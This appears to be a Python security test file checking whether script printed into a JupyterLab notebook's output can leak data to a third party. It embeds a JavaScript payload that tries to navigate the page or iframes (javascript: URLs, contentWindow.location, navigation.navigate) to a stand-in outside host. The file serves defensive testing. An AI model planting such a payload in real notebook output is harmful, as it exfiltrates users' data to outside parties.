"""Print script that leads the page away by the navigation API, and small frames by `javascript:` addresses.

Way: browser
Control: JupyterLab at the stock hub, where the third party hears it
Held by: the portal's page frames the session's own origin alone, and `frame-src` lets only blobs in; from tier 2 on printed script is taken out
"""

OUTPUT = """
<script>
const frame = document.createElement("iframe");
frame.src = "javascript:location='THIRD/secret'";
document.body.append(frame);
const empty = document.createElement("iframe");
document.body.append(empty);
empty.contentWindow.location = "THIRD/secret-2";
setTimeout(() => {
  const led = navigation.navigate("THIRD/secret-3");
  led.committed.catch(() => 0);
  led.finished.catch(() => 0);
}, 500);
</script>
"""


def test_control_the_third_party_hears_it(stock_screen, third_party) -> None:
    stock_screen.show(OUTPUT, third_party)
    third_party.hears("secret")
    stock_screen.fresh()


def test_the_third_party_hears_nothing(scripted_screen, third_party) -> None:
    scripted_screen.show(OUTPUT, third_party)
    third_party.hears_nothing()
    scripted_screen.fresh()


def test_printed_script_does_not_run_from_tier_2_on(plain_screen, third_party) -> None:
    assert not plain_screen.ran(plain_screen.show(OUTPUT, third_party))
    third_party.hears_nothing()
